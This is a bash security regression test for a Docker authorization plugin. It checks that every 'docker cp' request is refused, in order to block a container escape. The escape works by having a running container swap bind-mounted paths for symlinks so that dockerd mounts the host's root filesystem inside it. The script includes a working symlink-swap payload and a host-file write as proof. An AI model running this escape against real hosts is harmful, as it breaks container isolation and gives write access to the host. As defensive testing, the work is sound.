#!/bin/bash
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
# found-73 (red team 6, F-02 and F-04): `docker cp` makes dockerd mount
# the container's volumes and binds again, by path, below the container's
# root in its own mount namespace (daemon/archive.go mountVolumes),
# following links a running container planted. F-02, done here: an
# allowed writable bind of a host directory S at /p and one of S/y at
# /a/data; the running container swaps S/y for a link to `/`
# and /a for a link to a directory where it has no mount; `docker cp`
# into it binds the host's `/` at <root>/x/data, which propagates into the
# running container (its root is rslave) and stays. F-04 (not raced
# here) mounts a volume over a host directory the same way. No runtime is
# called: confine-authz refuses every docker cp request
# (`/containers/{id}/archive`, PUT, GET, HEAD, and the old `POST
# /containers/{id}/copy`) unless the policy says `authz.copy: allow`.
#
# Real containerd and dockerd, the gate as the default runtime,
# confine-authz registered (authz-engine.sh).
#   controls: `docker run -v /:/host` is refused at create (mounts); the
#   attacker's container (a bind and a bind inside it) runs through the
#   plugin; with `authz.copy: allow` (the policy is read at each request)
#   docker cp into a container with no volume works;
#   attack: docker cp into the running container (PUT, and its HEAD),
#   out of it (GET), and the old copy endpoint: each refused by the plugin
#   naming authz.copy, and the host's / never reaches the container (it
#   would write $T/written-from-the-container).
# Exit 0: a copy passed the plugin (the attack's door is open; with the
# host file written: the attack worked). 1: every copy refused. 2: the
# test failed.
set -u
N=73
. "$(dirname "$0")/authz-engine.sh"
command -v curl >/dev/null || { echo "curl is missing (tests/deps.sh)"; exit 2; }
PROOF=$T/written-from-the-container

# Control: the host's / asked for directly is refused.
if out=$(docker run --rm --network none -v /:/host "$IMG" true 2>&1); then
  echo "CONTROL FAILED: docker run -v /:/host ran"; exit 2
fi
refused_by_mounts () { grep -qE "confine: refused: (.*; )?mounts: " <<<"$1"; }
refused_by_mounts "$out" || { echo "CONTROL FAILED: -v /:/host not refused by mounts: $out"; exit 2; }
echo "control: docker run -v /:/host: $(grep -o 'confine: refused: [^(]*' <<<"$out" | head -1)"

# The attacker's container: allowed mounts only (the plugin and the
# gate both pass them), then it swaps the names as the host sees them.
mkdir -p "$T/share/y"
PAYLOAD='
mv /p/y /p/y.old && ln -s / /p/y
mkdir /x && mv /a /a.old && ln -s /x /a
echo swapped
for i in $(seq 60); do [ -e /x/data/etc/passwd ] && break; sleep 0.2; done
[ -e /x/data/etc/passwd ] || { echo "no host root"; exit 0; }
sleep 2
echo from the container > /x/data$PROOF && echo HOST_FILE_WRITTEN'
if ! cid=$(docker run -d --network none -e PROOF="$PROOF" -v "$T/share:/p" \
             -v "$T/share/y:/a/data" "$IMG" sh -c "$PAYLOAD" 2>&1); then
  echo "CONTROL FAILED: the attacker's container (a bind and a bind inside it) did not run: $cid"
  exit 2
fi
for _ in $(seq 50); do docker logs "$cid" 2>&1 | grep -q swapped && break; sleep 0.2; done
docker logs "$cid" 2>&1 | grep -q swapped \
  || { echo "CONTROL FAILED: the container did not run its command: $(docker logs "$cid" 2>&1)"; exit 2; }
echo "control: docker run -d -v S:/p -v S/y:/a/data ran (positive control: the plugin passes other requests)"

# The attack: every docker cp request.
open=0
copy () { # WHAT OUTPUT RC
  if [ "$3" = 0 ]; then
    echo "$1: passed the plugin"
    open=1
  elif grep -qE "confine: refused: (.*; )?mounts: docker cp .*dockerd re-mounts the container's volumes and binds by path.*\(policy authz\.copy\)" <<<"$2"; then
    echo "$1: $(grep -o 'confine: refused: .*' <<<"$2" | head -1)"
  else
    echo "$1: failed, not refused by the plugin's authz.copy: $2"
    open=2
  fi
}
echo hello > "$T/f"
out=$(docker cp "$T/f" "$cid:/tmp/f" 2>&1); copy "docker cp into the running container (PUT)" "$out" $?
out=$(docker cp "$cid:/etc/passwd" - 2>&1 >/dev/null); copy "docker cp out of it (GET)" "$out" $?
out=$(curl -sS --unix-socket "$ENGINE_DOCKER_SOCK" -o "$T/old.out" -w '%{http_code}' -X POST \
        -H 'Content-Type: application/json' -d '{"Resource":"/etc/passwd"}' \
        "http://docker/v1.19/containers/$cid/copy" 2>&1)
if [ "$out" = 200 ]; then rc=0; else rc=1; out="$out $(cat "$T/old.out" 2>/dev/null)"; fi
copy "POST /v1.19/containers/ID/copy" "$out" $rc

for _ in $(seq 50); do
  [ "$(docker inspect -f '{{.State.Running}}' "$cid" 2>/dev/null)" = false ] && break; sleep 0.3
done
echo "container: $(docker logs "$cid" 2>&1 | tr '\n' ' ')"
docker rm -f "$cid" >/dev/null 2>&1
if [ -s "$PROOF" ]; then
  echo "ATTACK WORKED: the container wrote $PROOF through the host's / that docker cp mounted"
  exit 0
fi
[ "$open" = 2 ] && exit 2
[ "$open" = 1 ] && { echo "ATTACK DOOR OPEN: docker cp passed the plugin"; exit 0; }

# Control: authz.copy allow opens docker cp again (read at each request).
jq '.authz.copy = "allow"' "$T/policy.json" > "$T/p.tmp" && cat "$T/p.tmp" > "$T/policy.json"
c2=$(docker create --network none "$IMG" true) || { echo "CONTROL FAILED: docker create"; exit 2; }
if ! out=$(docker cp "$T/f" "$c2:/f" 2>&1) || [ "$(docker cp "$c2:/f" - | tar -xOf -)" != hello ]; then
  echo "CONTROL FAILED: with authz.copy allow docker cp did not work: $out"; exit 2
fi
docker rm -f "$c2" >/dev/null
echo "control: with authz.copy allow, docker cp into and out of a container worked"
exit 1
